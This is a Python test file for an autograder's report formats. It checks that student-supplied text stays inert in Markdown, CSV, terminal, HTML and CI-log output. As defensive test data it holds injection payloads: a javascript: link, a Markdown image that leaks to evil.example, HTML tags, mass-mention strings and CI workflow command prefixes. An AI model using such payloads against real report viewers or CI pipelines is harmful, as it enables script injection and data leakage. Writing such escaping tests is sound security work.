"""Whatever a student writes, reports show it as text: no link, no tag, no formula, no command."""

import csv
import io
import re
from dataclasses import replace
from html import unescape
from pathlib import Path

import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st

from grader.grading.course.cohort import Cohort
from grader.records import Remark
from grader.reports import REPORT_FORMATS
from grader.reports.formats.csv import format_text_cell
from grader.reports.formats.csv import render_class as render_csv
from grader.reports.formats.json import from_json
from grader.reports.formats.markdown import escape_bars, escape_prose, format_code, format_fence
from grader.reports.formats.markdown import render as render_markdown
from grader.reports.formats.summary import render_class as render_summary
from grader.reports.formats.terminal import render as render_terminal

from .samples import ALICE, BLANK, hostile, rendered, rendered_class

ATTACKS = yaml.safe_load(Path(__file__).with_name("attacks.yaml").read_text(encoding="utf-8"))
MARKDOWN = sorted({text for kind in ("markdown", "terminal", "ci", "xml", "latex") for text in ATTACKS[kind]})
TERMINAL = MARKDOWN
CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2066-\u2069\ufeff]")


def outside_code(markdown: str) -> str:
    """Return Markdown without its fences and code spans, by the rules of CommonMark."""
    kept, closing = [], ""
    for line in markdown.split("\n"):
        ticks = re.match(r"(`{3,})", line)
        if closing:
            closing = "" if line.strip() == closing else closing
        elif ticks and "`" not in line[len(ticks[1]) :]:
            closing = ticks[1]
        else:
            kept.append(line)
    assert not closing, "a fence is never closed"
    return re.sub(r"(?<![`\\])(`+)(?!`).+?(?<!`)\1(?!`)", "", "\n".join(kept))


@pytest.mark.parametrize("attack", MARKDOWN)
@pytest.mark.parametrize(
    "render", [render_markdown, lambda graded: "".join(render_summary(Cohort(submissions=[graded])))]
)
def test_markdown_shows_student_text_as_text(attack: str, render) -> None:  # type: ignore[no-untyped-def]
    text = outside_code(render(hostile(attack)))
    unescaped = re.sub(r"\\[!-/:-@\[-`{-~]", "", text)
    assert not re.search(r"[<>`\[\]]|(?<!^)>", re.sub(r"(?m)^> ", "", unescaped))
    assert not re.search(r"[@#!~]\w", unescaped)
    assert not re.search(r"https?://|www\.|mailto:", text)
    assert not CONTROL.search(render(hostile(attack)))


@pytest.mark.parametrize("attack", MARKDOWN)
def test_remark_stays_one_list_item(attack: str) -> None:
    quiet = render_markdown(replace(ALICE, items=(replace(BLANK, remarks=(Remark(id="a", text="x"),)),)))
    loud = render_markdown(replace(ALICE, items=(replace(BLANK, remarks=(Remark(id="a", text=attack),)),)))
    before, after = quiet.split("- x\n")
    assert loud.startswith(f"{before}- ")
    assert loud.endswith(f"\n{after}")
    assert "\n" not in loud[len(before) : -len(after) - 1]


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("@everyone #1 fixes #2", "\\@\u2060everyone \\#\u20601 fixes \\#\u20602"),
        ("[x](javascript:alert(1))", "\\[x\\](javascript:alert(1))"),
        ("![x](http://evil.example/?leak)", "\\!\\[x\\](http:\\//evil.example/?leak)"),
        ("<b>", "\\<b\\>"),
        ("- a\n- b", "\\- a - b"),
        ("1. a", "1\\. a"),
        ("w_1 * x^2", "w\\_1 \\* x\\^2"),
        ("It is 1.5 times too large.", "It is 1.5 times too large."),
        ("www.evil.example", "www\\.evil.example"),
    ],
)
def test_prose_is_escaped_no_more_than_it_needs(text: str, shown: str) -> None:
    assert escape_prose(text) == shown


@given(st.text(alphabet="`a \n|\\\r", max_size=12))
def test_nothing_leaves_a_code_span_or_a_fence(text: str) -> None:
    assert outside_code(format_code(text)) == ""
    assert outside_code(format_fence(text.split("\n"))) == ""


def test_bar_in_a_table_cell_is_escaped_once() -> None:
    assert (escape_bars(format_code("a|b")), escape_bars(escape_prose("a|b"))) == ("`a\\|b`", "a\\|b")


@pytest.mark.parametrize("row", ATTACKS["csv"], ids=lambda row: ascii(row["given"]))
def test_spreadsheet_never_computes_student_text(row: dict[str, str]) -> None:
    assert format_text_cell(row["given"]) == row["cell"]


@pytest.mark.parametrize("row", ATTACKS["csv"], ids=lambda row: ascii(row["given"]))
def test_csv_has_the_same_cells_whatever_a_student_is_called(row: dict[str, str]) -> None:
    table = list(csv.reader(io.StringIO("".join(render_csv(Cohort(submissions=[hostile(row["given"])]))), newline="")))
    assert [len(line) for line in table] == [10, 10]
    assert table[1][2:] == ["waits for a person", "", "2", "0", "2", "", "", ""]


def test_csv_leaves_numbers_alone_and_missing_scores_blank() -> None:
    head, row = csv.reader(io.StringIO("".join(render_csv(Cohort(submissions=[ALICE]))), newline=""))
    cells = dict(zip(head, row, strict=True))
    assert cells["score"] == ""
    assert (cells["score_so_far"], cells["points"], cells["pending"]) == ("3.6667", "12.5", "5.5")
    assert (cells["gradient"], cells["minimum"]) == ("0.6667", "0")
    assert (cells["stochastic"], cells["hessian"]) == ("", "")


@pytest.mark.parametrize("attack", TERMINAL)
@pytest.mark.parametrize("colour", [False, True])
def test_terminal_obeys_nothing_in_student_text(attack: str, colour: bool) -> None:
    shown = re.sub(r"\x1b\[(1|2|0|3\d)m", "", render_terminal(hostile(attack), colour=colour))
    if not colour:
        assert shown == render_terminal(hostile(attack))
    assert not CONTROL.search(shown)
    assert all(line.isprintable() for line in shown.split("\n"))


PRINTED = sorted(set(REPORT_FORMATS) - {"github"})  # whose own commands are the point; its linter reads them


@pytest.mark.parametrize("kind", PRINTED)
def test_no_line_of_any_report_is_a_command_of_a_ci_log(kind: str) -> None:
    form = REPORT_FORMATS[kind]
    for attack in TERMINAL:
        graded = hostile(attack)
        whole = [graded, replace(graded, student="another", items=())]
        shown = [rendered(kind, each) for each in whole] if form.render else []
        shown += [rendered_class(kind, whole)] if form.render_class else []
        for line in re.split("[\r\n]", "\n".join(shown)):
            assert not line.strip().startswith("::")
            assert "##[" not in line
            assert "##vso[" not in line


def test_number_sign_that_is_escaped_in_json_and_html_is_still_one() -> None:
    graded = hostile("##[error]x")
    assert from_json(rendered("json", graded)).student == "##[error]x"
    assert unescape("#&#35;[error]x") == "##[error]x"
    assert "#&#35;[error]x" in rendered("html", graded)


def test_very_long_answer_is_shown_in_part() -> None:
    shown = render_markdown(hostile("x+" * 5_000 + "y"))
    assert "\n[8001 more characters]\n" in shown
